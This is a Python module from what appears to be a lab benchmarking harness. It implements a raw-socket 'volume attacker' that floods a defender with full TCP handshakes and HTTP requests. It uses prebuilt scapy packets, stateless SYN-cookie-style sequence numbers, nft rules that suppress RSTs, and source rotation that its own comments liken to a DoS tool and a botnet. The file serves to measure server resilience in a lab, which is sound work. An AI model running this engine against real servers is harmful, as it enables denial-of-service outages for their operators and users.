"""The volume attacker: full TCP handshakes and requests from raw sockets, no kernel socket at all.

It is what a DoS tool does: packets are prebuilt once (with scapy, in the parent) and patched per
connection (source port, sequence numbers, checksum) in a child process that lives in the attacker
host. Handshakes are stateless in the way SYN cookies are: our ISN is a keyed function of the
source address and port plus a microsecond clock, and the ACK carrying the request is computed
from the server's SYN-ACK alone (as are the ACKs of its data and the FIN answering its FIN). A
small table per source port exists only to report each connection as an Attempt (when it started,
how it ended), to time it out and to retransmit SYNs.

    parent (run())                               child (python -m harness.attackers.volume)
      nft: drop the attacker kernel's RSTs         raw socket: sends SYN, ACK+request, FIN
        for our source ports only                  AF_PACKET socket + BPF: sees only the
      spawns the child in the attacker host          defender's replies to our ports
      config (templates, BPF) -> child stdin       records -> stdout, batched lines
      sink(Attempt) per record line                one stats line (S {...}) at the end

The ports (61000-65535 by default) lie outside the kernel's ephemeral range, so kernel-socket
clients in the same host are untouched by the nft rules (see rst_filter.py; the child refuses to
run if the ranges overlap).
"""

from __future__ import annotations

import contextlib
import ctypes
import json
import resource
import select
import signal
import socket
import struct
import sys
import threading
import time
from collections import deque
from collections.abc import Callable, Iterator, Sequence
from dataclasses import asdict, dataclass, field
from hashlib import blake2b
from typing import BinaryIO

from harness.attackers import rst_filter
from harness.attackers.child import Child
from harness.attackers.policy import Policy, Target
from harness.attackers.rst_filter import SOURCE_PORTS, PortRange
from harness.errors import LabError, UsageError
from harness.lab import Lab
from harness.outcomes import Attempt, Outcome, http_status

NFT_TABLE = "closebench_volume"
IFNAME = "eth0"  # the attacker host's link towards the defender (or the router)
STARTUP_GRACE = 10.0  # seconds the child gets to start before a stop may kill it unheard
WINDOW = 64240  # advertised receive window; no window scaling
MSS = 1460

# One letter per outcome on the child's record lines.
OUTCOME_CODES = {
    "f": Outcome.FIN,
    "r": Outcome.RST,
    "R": Outcome.REFUSED,
    "i": Outcome.ICMP,
    "t": Outcome.SYN_TIMEOUT,
    "s": Outcome.SILENT,
}

# TCP flags
FIN, SYN, RST, ACK = 0x01, 0x02, 0x04, 0x10
SEQ_MASK = 0xFFFFFFFF
DLT_EN10MB = 1
ETH_P_IP, ETH_P_IPV6 = 0x0800, 0x86DD
SO_ATTACH_FILTER = 26
SO_RCVBUFFORCE = 33
SOL_PACKET = 263
PACKET_STATISTICS = 6
ETH_HEADER = 14


# --- what the parent hands the child ------------------------------------------------------------


@dataclass
class Template:
    """One prebuilt packet: the IP header as is, the TCP header to patch, the bytes after it.

    `base` is the one's-complement sum of the pseudo-header and segment with the source port,
    sequence and acknowledgement numbers and checksum at zero: adding those fields back in gives
    the checksum without touching the rest.
    """

    head: bytes  # IP header (the kernel fills the IPv4 checksum, length and ID)
    dport: int
    offflags: int  # data offset and flags, the 16 bits after the ack number
    tail: bytes  # TCP options and payload
    base: int

    def to_json(self) -> dict:
        return {**asdict(self), "head": self.head.hex(), "tail": self.tail.hex()}

    @classmethod
    def from_json(cls, record: dict) -> Template:
        head, tail = bytes.fromhex(record["head"]), bytes.fromhex(record["tail"])
        return cls(**{**record, "head": head, "tail": tail})


KINDS = ("syn", "request", "ack", "fin")


@dataclass
class ChildConfig:
    family: int
    sources: list[str]
    dst: str
    dport: int
    templates: list[dict[str, dict]]  # per source, per kind (KINDS)
    bpf: list[list[int]]  # [code, jt, jf, k] instructions for SO_ATTACH_FILTER
    request_len: int
    timeout: float
    concurrency: int
    rate: float | None
    duration: float | None
    attempts: int | None
    request_delay: float
    port_lo: int
    port_hi: int
    base_time: float  # record times are microseconds since this Unix time
    ifname: str = IFNAME


# --- the parent: VolumeAttacker -----------------------------------------------------------------


class VolumeAttacker:
    """Runs `policy` against `target` from raw sockets in the attacker host, one Attempt each.

    `sources`: addresses of the attacker host to send from (each brings its own 4536 ports); add
    them first with `lab.add_attacker_addresses(n)`. Default: run()'s `source`, else the
    attacker's main address.
    """

    name = "volume"

    def __init__(
        self,
        label: str = "volume",
        sources: Sequence[str] | None = None,
        ports: PortRange = SOURCE_PORTS,
    ) -> None:
        self.label = label
        self.sources = list(sources or [])
        self.ports = ports

    def run(
        self,
        lab: Lab,
        target: Target,
        policy: Policy,
        sink: Callable[[Attempt], None],
        cancel: threading.Event,
        source: str | None = None,
    ) -> dict:
        from harness.privileges import require_tools

        require_tools("nft")
        sources = [source] if source else self.sources or [lab.attacker_ip(target.family)]
        config = self._child_config(target, policy, sources)
        host = lab.attacker
        if rst_filter.present(host, NFT_TABLE):
            raise LabError(f"a volume attacker already runs in this lab (nft table {NFT_TABLE})")
        # The target's segments to our ports are dropped before the attacker kernel's TCP sees
        # them (the AF_PACKET socket has had its copy), and any RST from our ports to the target
        # that still gets out is dropped too.
        rules = rst_filter.rules(
            NFT_TABLE,
            target.family,
            self.ports,
            peer=target.address,
            replies_from=(target.address, target.port),
        )
        with rst_filter.installed(host, NFT_TABLE, rules):
            child = Child(
                host,
                [sys.executable, "-m", "harness.attackers.volume"],
                stdin=json.dumps(asdict(config)).encode() + b"\n",
                startup_grace=STARTUP_GRACE,
            )
            records = _Records(lambda line: self._attempt(line, config, target, policy), sink)
            child.run(records, cancel, deadline=_hard_deadline(policy))
        return child.result(records, "volume attacker")

    def _child_config(self, target: Target, policy: Policy, sources: list[str]) -> ChildConfig:
        lo, hi = self.ports.low, self.ports.high
        if lo < 1024:
            raise UsageError(f"bad volume port range {self.ports}")
        slots = len(self.ports) * len(sources)
        if policy.concurrency > slots:
            raise UsageError(
                f"concurrency {policy.concurrency} needs more source ports than the {slots} of "
                f"{len(sources)} address(es) x ports {self.ports}: add attacker addresses"
            )
        request = target.request()
        attempts = policy.attempts
        if not policy.reconnect:  # one attempt per slot, as the kernel spammer does
            attempts = min(attempts or policy.concurrency, policy.concurrency)
        return ChildConfig(
            family=target.family,
            sources=sources,
            dst=target.address,
            dport=target.port,
            templates=[
                {k: t.to_json() for k, t in build_templates(target, s, request).items()}
                for s in sources
            ],
            bpf=compile_bpf(reply_filter(target, sources, lo, hi)),
            request_len=len(request),
            timeout=policy.timeout,
            concurrency=policy.concurrency,
            rate=policy.rate,
            duration=policy.duration,
            attempts=attempts,
            request_delay=policy.request_delay,
            port_lo=lo,
            port_hi=hi,
            base_time=time.time(),
        )

    def _attempt(self, line: str, config: ChildConfig, target: Target, policy: Policy) -> Attempt:
        src, sport, code, t0, est, req, first, end, nbytes, status = line.split()
        t_syn = config.base_time + int(t0) / 1e6

        def at(offset: str) -> float | None:
            return None if offset == "-" else t_syn + int(offset) / 1e6

        received = int(nbytes)
        return Attempt(
            attacker=self.label,
            family=target.family,
            src=config.sources[int(src)],
            sport=int(sport),
            dst=target.address,
            dport=target.port,
            client_timeout=policy.timeout,
            outcome=OUTCOME_CODES[code],
            t_syn=t_syn,
            t_established=at(est),
            t_request=at(req),
            t_first_byte=at(first),
            t_end=at(end),
            bytes_received=received,
            data_first=received > 0,
            http_status=int(status) or None,
        )


class _Records:
    """The child's lines: `R` (it catches SIGTERM), a record an attempt, `S {...}` last."""

    def __init__(self, attempt: Callable[[str], Attempt], sink: Callable[[Attempt], None]) -> None:
        self.attempt = attempt
        self.sink = sink
        self.ready = False
        self.error: str | None = None
        self.result: dict | None = None

    def line(self, text: str) -> None:
        if text == "R":
            self.ready = True
        elif text.startswith("S "):
            stats = json.loads(text[2:])
            if "error" in stats:
                self.error = stats["error"]
            else:
                self.result = stats
        else:
            self.sink(self.attempt(text))


def _hard_deadline(policy: Policy) -> float:
    """When the parent stops the child whatever it says: the bounds plus the longest attempt."""
    if policy.duration is None:
        return float("inf")
    longest = 2 * policy.timeout + policy.request_delay
    return time.monotonic() + policy.duration + longest + 5.0


# --- templates and BPF, built once in the parent with scapy -------------------------------------


def build_templates(target: Target, source: str, request: bytes) -> dict[str, Template]:
    from scapy.layers.inet import IP, TCP
    from scapy.layers.inet6 import IPv6

    if target.family == 4:
        ip = IP(src=source, dst=target.address, id=0, flags="DF", ttl=64)
    else:
        ip = IPv6(src=source, dst=target.address, hlim=64)
    specs = {
        "syn": ("S", [("MSS", MSS)], b""),
        "request": ("PA", [], request),
        "ack": ("A", [], b""),
        "fin": ("FA", [], b""),
    }
    templates = {}
    for kind, (flags, options, payload) in specs.items():
        tcp = TCP(sport=0, dport=target.port, seq=0, ack=0, flags=flags, window=WINDOW)
        tcp.options = options
        templates[kind] = _template(bytes(ip / tcp / payload), target.family)
    return templates


def _template(packet: bytes, family: int) -> Template:
    ip_len = (packet[0] & 0x0F) * 4 if family == 4 else 40
    head, segment = packet[:ip_len], bytearray(packet[ip_len:])
    segment[16:18] = b"\0\0"  # checksum
    if family == 4:
        pseudo = head[12:20] + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(segment))
    else:
        pseudo = head[8:40] + struct.pack("!I3xB", len(segment), socket.IPPROTO_TCP)
    return Template(
        head=head,
        dport=struct.unpack_from("!H", segment, 2)[0],
        offflags=struct.unpack_from("!H", segment, 12)[0],
        tail=bytes(segment[20:]),
        base=_sum16(pseudo + bytes(segment)),
    )


def _sum16(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    return sum(struct.unpack(f"!{len(data) // 2}H", data))


def reply_filter(target: Target, sources: list[str], lo: int, hi: int) -> str:
    """tcpdump syntax for what Python must see: the defender's segments to our ports.

    Bare ACKs stay in the kernel (nothing to do for them), ICMP errors come through (they can end
    an attempt). libpcap cannot index TCP headers over IPv6, so there the offsets are written out
    for a TCP header right after the IPv6 header, which is all the defender sends.
    """
    ours = " or ".join(f"dst host {s}" for s in sources)
    if target.family == 4:
        tcp = "ip and tcp"
        ends = "tcp[tcpflags] & (tcp-syn|tcp-fin|tcp-rst) != 0"
        payload = "ip[2:2] - ((ip[0] & 0xf) << 2) - ((tcp[12] & 0xf0) >> 2)"
        icmp = "icmp and (icmp[0] == 3 or icmp[0] == 11)"
    else:
        tcp = "ip6 and ip6[6] == 6"
        ends = "ip6[53] & 0x07 != 0"
        payload = "ip6[4:2] - ((ip6[52] & 0xf0) >> 2)"
        icmp = "icmp6 and (ip6[40] == 1 or ip6[40] == 3)"
    ports = f"src host {target.address} and src port {target.port} and dst portrange {lo}-{hi}"
    replies = f"{tcp} and {ports} and ({ends} or {payload} != 0)"
    return f"(({replies}) or ({icmp})) and ({ours})"


def compile_bpf(expression: str) -> list[list[int]]:
    from scapy.arch.common import compile_filter, free_filter

    program = compile_filter(expression, linktype=DLT_EN10MB)
    try:
        return [
            [i.code, i.jt, i.jf, i.k & 0xFFFFFFFF]
            for i in (program.bf_insns[n] for n in range(program.bf_len))
        ]
    finally:
        free_filter(program)


# --- the child: the engine in the attacker host --------------------------------------------------

FREE, SYN_SENT, ESTABLISHED, REQUESTED = 0, 1, 2, 3
TCP_HEADER = struct.Struct("!HHIIHHHH")  # sport dport seq ack offflags window checksum urgent
TCP_FIELDS = struct.Struct("!HHIIBB")  # sport dport seq ack offset flags
FLUSH_EVERY = 0.02  # seconds between record batches to the parent
DRAIN_BATCH = 256  # segments handled before looking at timers and starts again
BURST = 0.01  # seconds of rate-capped starts that may be caught up after a stall
RX_BUFFER = 32 << 20


@dataclass
class Counters:
    packets_sent: int = 0
    bytes_sent: int = 0
    send_errors: int = 0
    packets_received: int = 0  # past the BPF filter
    syns_sent: int = 0
    syn_retransmits: int = 0
    synacks_received: int = 0
    synack_duplicates: int = 0
    requests_sent: int = 0
    fins_received: int = 0
    rsts_received: int = 0
    icmp_received: int = 0
    data_segments: int = 0
    stray_segments: int = 0  # for a connection that is over or never was
    connections_started: int = 0
    connections_established: int = 0
    connections_ended: int = 0
    peak_in_flight: int = 0


class Wire:
    """Prebuilt packets patched per connection, sent on a raw socket (IP header included)."""

    def __init__(self, config: ChildConfig, counters: Counters) -> None:
        self.counters = counters
        family = socket.AF_INET if config.family == 4 else socket.AF_INET6
        self.sock = socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_RAW)
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
        self.sock.connect((config.dst, 0))
        self.templates = [
            [Template.from_json(per_source[kind]) for kind in KINDS]
            for per_source in config.templates
        ]

    def send(self, kind: int, src: int, sport: int, seq: int, ack: int) -> None:
        t = self.templates[src][kind]
        s = t.base + sport + (seq >> 16) + (seq & 0xFFFF) + (ack >> 16) + (ack & 0xFFFF)
        s = (s & 0xFFFF) + (s >> 16)
        s = (s & 0xFFFF) + (s >> 16)
        packet = (
            t.head
            + TCP_HEADER.pack(sport, t.dport, seq, ack, t.offflags, WINDOW, ~s & 0xFFFF, 0)
            + t.tail
        )
        try:
            self.sock.send(packet)
        except OSError:  # ENOBUFS and the like: a lost packet, which TCP recovers from
            self.counters.send_errors += 1
            return
        self.counters.packets_sent += 1
        self.counters.bytes_sent += len(packet)


SYN_K, REQUEST_K, ACK_K, FIN_K = range(len(KINDS))


def open_receiver(config: ChildConfig) -> socket.socket:
    """An AF_PACKET socket that only ever queues what the BPF program lets through."""
    proto = ETH_P_IP if config.family == 4 else ETH_P_IPV6
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)  # protocol 0: nothing queued yet
    insns = b"".join(struct.pack("HBBI", *insn) for insn in config.bpf)
    program = ctypes.create_string_buffer(insns)
    fprog = struct.pack("HP", len(config.bpf), ctypes.addressof(program))
    sock.setsockopt(socket.SOL_SOCKET, SO_ATTACH_FILTER, fprog)
    with contextlib.suppress(OSError):
        sock.setsockopt(socket.SOL_SOCKET, SO_RCVBUFFORCE, RX_BUFFER)
    sock.bind((config.ifname, proto))
    sock.setblocking(False)
    return sock


@dataclass
class Timers:
    """Deadlines with one constant delay each, so a FIFO is already in due order."""

    delay: float
    queue: deque = field(default_factory=deque)

    def add(self, now: float, slot: int, gen: int) -> None:
        self.queue.append((now + self.delay, slot, gen))

    def due(self, now: float) -> Iterator[tuple[float, int, int]]:
        queue = self.queue
        while queue and queue[0][0] <= now:
            yield queue.popleft()

    def next_due(self) -> float:
        return self.queue[0][0] if self.queue else float("inf")


def isn_offsets(sources: list[str], lo: int, hi: int) -> list[int]:
    """The keyed part of our ISNs, per slot (source, port): ISN = offset + microsecond clock.

    The key lasts as long as the machine's boot, not one run: a SYN on a port the server still
    holds in TIME-WAIT (from this run or the last) must carry a later ISN than the last one, or
    the server's kernel will not accept it.
    """
    with open("/proc/sys/kernel/random/boot_id", "rb") as f:
        key = b"closebench-volume " + f.read().strip()
    return [
        int.from_bytes(blake2b(f"{source} {port}".encode(), key=key[:64], digest_size=4).digest())
        for source in sources  # slot = source index * ports + port - lo
        for port in range(lo, hi + 1)
    ]


class Engine:
    """Starts connections within the window and rate, answers the defender, times attempts out."""

    def __init__(self, config: ChildConfig, out: BinaryIO, cancel: threading.Event) -> None:
        self.config = config
        self.out = out
        self.cancel = cancel
        self.counters = Counters()
        self.wire = Wire(config, self.counters)
        self.rx = open_receiver(config)
        self.ports = config.port_hi - config.port_lo + 1
        slots = self.ports * len(config.sources)
        self.secret = isn_offsets(config.sources, config.port_lo, config.port_hi)
        # FIFO, so a port is reused as late as possible; sources take turns, as a botnet's would
        sources = len(config.sources)
        self.free = deque(
            src * self.ports + port for port in range(self.ports) for src in range(sources)
        )
        self.state = [FREE] * slots
        self.gen = [0] * slots
        self.isn = [0] * slots
        self.rcv_nxt = [0] * slots
        self.t_syn = [0.0] * slots
        self.t_est: list[float | None] = [None] * slots
        self.t_req: list[float | None] = [None] * slots
        self.t_first: list[float | None] = [None] * slots
        self.nbytes = [0] * slots
        self.status = [0] * slots
        self.by_address = {
            socket.inet_pton(self.wire.sock.family, s): i for i, s in enumerate(config.sources)
        }
        self.syn_timeouts = Timers(config.timeout)
        self.reply_timeouts = Timers(config.timeout)
        self.request_delays = Timers(config.request_delay)
        # SYN retransmissions after 1, 3, 7... s, as the kernel's initial RTO backs off
        self.retransmits = [
            Timers(float(1 << n)) for n in range(8) if (2 << n) - 1 < config.timeout
        ]
        self.buffer = bytearray(2048)
        self.view = memoryview(self.buffer)
        self.in_flight = 0
        self.records: list[str] = []

    # --- the loop

    def run(self) -> dict:
        config = self.config
        started_at = time.monotonic()
        stop_at = started_at + config.duration if config.duration else float("inf")
        next_start = started_at
        last_flush = started_at
        poller = select.poll()
        poller.register(self.rx.fileno(), select.POLLIN)
        gap = 1.0 / config.rate if config.rate else 0.0
        starting_until = None  # when the bounds stopped new connections
        while not self.cancel.is_set():
            now = time.monotonic()
            self.expire(now)
            starting = now < stop_at and (
                config.attempts is None or self.counters.connections_started < config.attempts
            )
            if starting:
                next_start = self.start_due(now, next_start, gap)
            else:
                starting_until = starting_until or now
                if self.in_flight == 0:
                    break
            if now - last_flush >= FLUSH_EVERY:
                self.flush()
                last_flush = now
            wake = min(self.next_timer(), last_flush + FLUSH_EVERY)
            if starting and self.in_flight < config.concurrency:
                wake = min(wake, next_start, stop_at)
            if poller.poll(max(0, int((wake - time.monotonic()) * 1000) + 1) if wake > now else 0):
                self.drain()
        ended_at = time.monotonic()
        self.flush()
        return self.report(ended_at - started_at, (starting_until or ended_at) - started_at)

    def start_due(self, now: float, next_start: float, gap: float) -> float:
        """Start what the window, the rate and the attempt bound allow; the next start time."""
        config = self.config
        room = config.concurrency - self.in_flight
        if config.attempts is not None:
            room = min(room, config.attempts - self.counters.connections_started)
        if gap:
            next_start = max(next_start, now - BURST)
            room = min(room, int((now - next_start) / gap) + 1 if now >= next_start else 0)
            next_start += room * gap
        for _ in range(max(0, room)):
            self.connect(now)
        return next_start

    def next_timer(self) -> float:
        timers = [self.syn_timeouts, self.reply_timeouts, self.request_delays, *self.retransmits]
        return min(t.next_due() for t in timers)

    # --- connections

    def connect(self, now: float) -> None:
        slot = self.free.popleft()
        self.gen[slot] += 1
        isn = (self.secret[slot] + time.monotonic_ns() // 1000) & SEQ_MASK
        self.state[slot] = SYN_SENT
        self.isn[slot] = isn
        self.t_syn[slot] = time.time()
        self.t_est[slot] = self.t_req[slot] = self.t_first[slot] = None
        self.nbytes[slot] = self.status[slot] = 0
        src, port = divmod(slot, self.ports)
        self.wire.send(SYN_K, src, port + self.config.port_lo, isn, 0)
        c = self.counters
        c.syns_sent += 1
        c.connections_started += 1
        self.in_flight += 1
        c.peak_in_flight = max(c.peak_in_flight, self.in_flight)
        self.syn_timeouts.add(now, slot, self.gen[slot])
        if self.retransmits:
            self.retransmits[0].add(now, slot, self.gen[slot])

    def end(self, slot: int, code: str) -> None:
        t_syn = self.t_syn[slot]

        def offset(t: float | None) -> str:
            return "-" if t is None else str(int((t - t_syn) * 1e6))

        src, port = divmod(slot, self.ports)
        self.records.append(
            f"{src} {port + self.config.port_lo} {code} "
            f"{int((t_syn - self.config.base_time) * 1e6)} {offset(self.t_est[slot])} "
            f"{offset(self.t_req[slot])} {offset(self.t_first[slot])} {offset(time.time())} "
            f"{self.nbytes[slot]} {self.status[slot]}\n"
        )
        self.state[slot] = FREE
        self.free.append(slot)
        self.in_flight -= 1
        self.counters.connections_ended += 1

    def send_request(self, slot: int, ack: int) -> None:
        src, port = divmod(slot, self.ports)
        self.wire.send(
            REQUEST_K, src, port + self.config.port_lo, (self.isn[slot] + 1) & SEQ_MASK, ack
        )
        if self.state[slot] != REQUESTED:
            self.state[slot] = REQUESTED
            self.t_req[slot] = time.time()
            self.counters.requests_sent += 1
            self.reply_timeouts.add(time.monotonic(), slot, self.gen[slot])

    def expire(self, now: float) -> None:
        state, gen = self.state, self.gen
        for _, slot, g in self.syn_timeouts.due(now):
            if gen[slot] == g and state[slot] == SYN_SENT:
                self.end(slot, "t")
        for _, slot, g in self.request_delays.due(now):
            if gen[slot] == g and state[slot] == ESTABLISHED:
                self.send_request(slot, self.rcv_nxt[slot])
        for _, slot, g in self.reply_timeouts.due(now):
            if gen[slot] == g and state[slot] == REQUESTED:
                # Give up as a kernel client's close() would: FIN after what we sent.
                seq = (self.isn[slot] + 1 + self.config.request_len) & SEQ_MASK
                src, port = divmod(slot, self.ports)
                self.wire.send(FIN_K, src, port + self.config.port_lo, seq, self.rcv_nxt[slot])
                self.end(slot, "s")
        for level, timers in enumerate(self.retransmits):
            for _, slot, g in timers.due(now):
                if gen[slot] == g and state[slot] == SYN_SENT:
                    src, port = divmod(slot, self.ports)
                    self.wire.send(SYN_K, src, port + self.config.port_lo, self.isn[slot], 0)
                    self.counters.syn_retransmits += 1
                    if level + 1 < len(self.retransmits):
                        self.retransmits[level + 1].add(now, slot, g)

    # --- what the defender sends

    def drain(self) -> None:
        recv_into, buffer, view = self.rx.recv_into, self.buffer, self.view
        handle = self.segment4 if self.config.family == 4 else self.segment6
        for _ in range(DRAIN_BATCH):
            try:
                recv_into(buffer)  # BPF passed it only if it could read the headers it tests
            except BlockingIOError:
                return
            self.counters.packets_received += 1
            handle(view)

    def segment4(self, packet: memoryview) -> None:
        ihl = (packet[ETH_HEADER] & 0x0F) << 2
        if packet[ETH_HEADER + 9] == socket.IPPROTO_ICMP:
            self.icmp(packet, ETH_HEADER + ihl + 8, 4)
            return
        total = (packet[ETH_HEADER + 2] << 8) | packet[ETH_HEADER + 3]
        src = self.by_address.get(bytes(packet[ETH_HEADER + 16 : ETH_HEADER + 20]))
        start = ETH_HEADER + ihl
        self.segment(packet, start, total - ihl, src)

    def segment6(self, packet: memoryview) -> None:
        if packet[ETH_HEADER + 6] == socket.IPPROTO_ICMPV6:
            self.icmp(packet, ETH_HEADER + 48, 6)
            return
        length = (packet[ETH_HEADER + 4] << 8) | packet[ETH_HEADER + 5]
        src = self.by_address.get(bytes(packet[ETH_HEADER + 24 : ETH_HEADER + 40]))
        self.segment(packet, ETH_HEADER + 40, length, src)

    def segment(self, packet: memoryview, start: int, length: int, src: int | None) -> None:
        _, dport, seq, ack, offset, flags = TCP_FIELDS.unpack_from(packet, start)
        port = dport - self.config.port_lo
        if src is None or not 0 <= port < self.ports:
            self.counters.stray_segments += 1
            return
        slot = src * self.ports + port
        payload = length - ((offset >> 4) << 2)
        state = self.state[slot]
        if flags & RST:
            self.reset(slot, state, seq, ack, flags)
        elif flags & SYN:
            self.synack(slot, state, seq, ack, flags)
        elif state in (FREE, SYN_SENT):
            self.late(slot, state, seq, ack, flags, payload)
        else:
            data = start + ((offset >> 4) << 2)
            self.data(slot, seq, ack, flags, payload, packet[data : data + min(payload, 64)])

    def reset(self, slot: int, state: int, seq: int, ack: int, flags: int) -> None:
        self.counters.rsts_received += 1
        if state == SYN_SENT and flags & ACK and ack == (self.isn[slot] + 1) & SEQ_MASK:
            self.end(slot, "R")
        elif state >= ESTABLISHED and (seq - self.rcv_nxt[slot]) & SEQ_MASK < WINDOW:
            self.end(slot, "r")
        else:
            self.counters.stray_segments += 1

    def synack(self, slot: int, state: int, seq: int, ack: int, flags: int) -> None:
        # Stateless: the ACK (and request) follow from the SYN-ACK alone; the table only checks
        # that it answers our current SYN on that port.
        if not flags & ACK or state == FREE or ack != (self.isn[slot] + 1) & SEQ_MASK:
            self.counters.stray_segments += 1
            return
        rcv_nxt = (seq + 1) & SEQ_MASK
        if state != SYN_SENT:  # our ACK was lost (or the server's accept queue was full)
            self.counters.synack_duplicates += 1
        else:
            self.counters.synacks_received += 1
            self.counters.connections_established += 1
            self.state[slot] = ESTABLISHED
            self.t_est[slot] = time.time()
            self.rcv_nxt[slot] = rcv_nxt
        if self.config.request_delay and self.state[slot] == ESTABLISHED:
            src, port = divmod(slot, self.ports)
            self.wire.send(ACK_K, src, port + self.config.port_lo, ack, rcv_nxt)
            if state == SYN_SENT:
                self.request_delays.add(time.monotonic(), slot, self.gen[slot])
        else:
            self.send_request(slot, rcv_nxt)

    def late(self, slot: int, state: int, seq: int, ack: int, flags: int, payload: int) -> None:
        """A segment for no established connection of ours: answer a repeated FIN, else ignore."""
        self.counters.stray_segments += 1
        if state == FREE and flags & FIN:  # our FIN+ACK was lost: the server still waits for it
            src, port = divmod(slot, self.ports)
            self.wire.send(
                FIN_K, src, port + self.config.port_lo, ack, (seq + payload + 1) & SEQ_MASK
            )

    def data(self, slot: int, seq: int, ack: int, flags: int, payload: int, head) -> None:
        if (ack - self.isn[slot] - 1) & SEQ_MASK > self.config.request_len + 1:
            self.counters.stray_segments += 1  # acknowledges nothing we sent on this connection
            return
        if payload:
            self.counters.data_segments += 1
            if not self.nbytes[slot]:
                self.t_first[slot] = time.time()
                self.status[slot] = http_status(bytes(head)) or 0
            self.nbytes[slot] += payload
            self.rcv_nxt[slot] = (seq + payload) & SEQ_MASK
        src, port = divmod(slot, self.ports)
        sport = port + self.config.port_lo
        if flags & FIN:
            self.counters.fins_received += 1
            self.wire.send(FIN_K, src, sport, ack, (seq + payload + 1) & SEQ_MASK)
            self.end(slot, "f")
        elif payload:
            self.wire.send(ACK_K, src, sport, ack, (seq + payload) & SEQ_MASK)

    def icmp(self, packet: memoryview, inner: int, family: int) -> None:
        """An ICMP error quoting one of our SYNs ends that attempt, as it fails connect()."""
        self.counters.icmp_received += 1
        if family == 4:
            ihl = (packet[inner] & 0x0F) << 2
            address, tcp = bytes(packet[inner + 12 : inner + 16]), inner + ihl
        else:
            address, tcp = bytes(packet[inner + 8 : inner + 24]), inner + 40
        src = self.by_address.get(address)
        sport = struct.unpack_from("!H", packet, tcp)[0] - self.config.port_lo
        if src is None or not 0 <= sport < self.ports:
            return
        slot = src * self.ports + sport
        if self.state[slot] == SYN_SENT:
            self.end(slot, "i")

    # --- reporting

    def flush(self) -> None:
        if self.records:
            self.out.write("".join(self.records).encode())
            self.out.flush()
            self.records.clear()

    def report(self, elapsed: float, starting_s: float) -> dict:
        c = self.counters
        drops = None
        with contextlib.suppress(OSError):
            _, drops = struct.unpack("II", self.rx.getsockopt(SOL_PACKET, PACKET_STATISTICS, 8))
        usage = resource.getrusage(resource.RUSAGE_SELF)

        def per_s(count: int) -> float:
            return round(count / starting_s, 1) if starting_s > 0 else 0.0

        return {
            **asdict(c),
            "receive_drops": drops,
            "kernel_sockets": 0,
            "sources": len(self.config.sources),
            "elapsed_s": round(elapsed, 3),
            "starting_s": round(starting_s, 3),
            "connections_per_s": per_s(c.connections_started),
            "established_per_s": per_s(c.connections_established),
            "cpu_user_s": round(usage.ru_utime, 3),
            "cpu_system_s": round(usage.ru_stime, 3),
            "cancelled": self.cancel.is_set(),
        }


def _ephemeral_overlap(config: ChildConfig) -> str | None:
    with open("/proc/sys/net/ipv4/ip_local_port_range") as f:
        ephemeral = PortRange.parse(f.read())
    ports = PortRange(config.port_lo, config.port_hi)
    if ephemeral.overlaps(ports):
        return (
            f"source ports {ports} overlap the attacker host's ephemeral range {ephemeral}: "
            "kernel clients there would lose their RSTs"
        )
    return None


def main() -> int:
    from harness.netns import die_with_parent

    die_with_parent()  # the nsexec launcher went away: so do we
    # A stop asked for while still setting up is a normal, empty run, not a crash.
    cancel = threading.Event()
    for signum in (signal.SIGTERM, signal.SIGINT):
        signal.signal(signum, lambda _signum, _frame: cancel.set())
    out = sys.stdout.buffer
    out.write(b"R\n")
    out.flush()
    config = ChildConfig(**json.loads(sys.stdin.readline()))
    problem = _ephemeral_overlap(config)
    if problem:
        out.write(b"S " + json.dumps({"error": problem}).encode() + b"\n")
        return 2
    stats = Engine(config, out, cancel).run()
    out.write(b"S " + json.dumps(stats).encode() + b"\n")
    out.flush()
    return 0


if __name__ == "__main__":
    sys.exit(main())
